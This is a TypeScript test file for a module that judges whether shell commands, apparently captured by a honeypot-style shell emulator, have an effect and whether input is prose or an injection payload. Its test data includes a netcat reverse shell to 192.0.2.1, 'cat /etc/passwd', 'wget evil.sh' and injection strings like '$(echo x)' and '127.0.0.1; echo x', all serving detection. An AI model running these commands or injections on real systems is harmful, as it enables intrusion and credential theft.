import { describe, expect, test } from "bun:test"
import {
  canaryHasEffect,
  isProse,
  tracedHasEffect,
} from "../../../src/twins/shell/command-effect.ts"

const ran = (line: string, input: "file" | "pipe" | "none" = "none") => {
  const [name = "", ...words] = line.split(" ")
  return { name, arguments: words, input }
}

describe("canaryHasEffect", () => {
  test.each([
    ...["id", "id www-data", "uname -a", "ls", "ls -la /", "cat /etc/passwd", "head -n 5 app.log"],
    ...["curl http://example.com/x", "ping -c 10 127.0.0.1", "nslookup example.com", "sleep 5"],
    ...["nc -e /bin/sh 192.0.2.1 4444", "kill -9 1", "sh", "bash -i", "python -c print(1)"],
    ...["find . -name x", "ps aux", "ip addr", "systemctl status", "expr 1 + 1", "wget evil.sh"],
    ...[
      "awk BEGIN{system('id')}",
      "ssh root@web",
      "scp a web:b",
      "init 0",
      "su root",
      "tar xf a.tar",
      "date +%s",
      "sudo -l",
    ],
  ])("is true of %p, even in prose", (line) => {
    expect(canaryHasEffect(ran(line), line !== "sh")).toBe(true)
  })

  test.each([
    ...["find out", "more information", "cat people", "head shoulders", "sort of", "cut corners"],
    ...["kill time", "sleep well", "ping me", "curl up", "at home", "time flies", "make sense"],
    ...["who cares", "date night", "ls is a command", "python rocks", "bash the bug", "file it"],
    ...["more", "cat", "sort", "host", "mail us", "watch out", "which one", "su casa"],
  ])("is false of %p, in which the real command would do nothing", (line) => {
    expect(canaryHasEffect(ran(line), true)).toBe(false)
    expect(canaryHasEffect(ran(line), false)).toBe(false)
  })

  test.each(["date", "who", "echo pwned", "touch pwned", "sh", "su", "killall nginx"])(
    "counts %p only where the payload is no prose",
    (line) => {
      expect(canaryHasEffect(ran(line), false)).toBe(true)
      expect(canaryHasEffect(ran(line), true)).toBe(false)
    },
  )

  test("counts a reader whose standard input is a file", () => {
    expect(canaryHasEffect(ran("cat", "file"), true)).toBe(true)
    expect(canaryHasEffect(ran("cat", "pipe"), true)).toBe(false)
  })

  test("is false of a command that no canary stands for", () => {
    expect(canaryHasEffect(ran("b"), false)).toBe(false)
  })
})

describe("tracedHasEffect", () => {
  test.each([
    ...["pwd", "echo x", ". /etc/profile", "kill -9 1", "ulimit -a"],
    ...["set +x", "set +ex", "/tmp/x", "./x.sh", "/var/tmp/.x", "/dev/shm/a"],
  ])("is true of %p", (line) => {
    expect(tracedHasEffect(ran(line), false)).toBe(true)
  })

  test.each(["/usr/bin", "./lib/a.jar", "/etc/hosts", "a/b"])("is false of the path %p", (line) => {
    expect(tracedHasEffect(ran(line), false)).toBe(false)
  })

  test.each(["cd /tmp", "x=1", "set -x", "true", ":", "exit", "read line", "echo", "type"])(
    "is false of %p, which only changes the shell",
    (line) => {
      expect(tracedHasEffect(ran(line), false)).toBe(false)
    },
  )
})

describe("isProse", () => {
  test.each([
    ...["the mountains; echo of the past", "delay & echo effects", "price | date | size"],
    ...["kill time; touch base", "Tom & Jerry", "cats & more"],
  ])("is true of %p", (text) => {
    expect(isProse(text)).toBe(true)
  })

  test.each([
    ...["; echo x", "127.0.0.1; echo x", "a;echo x", "x && echo y", "$(echo x)", "x'; echo y; '"],
    ...["test; echo x", "x | sh -c `echo`", "a\necho x"],
  ])("is false of %p", (text) => {
    expect(isProse(text)).toBe(false)
  })
})
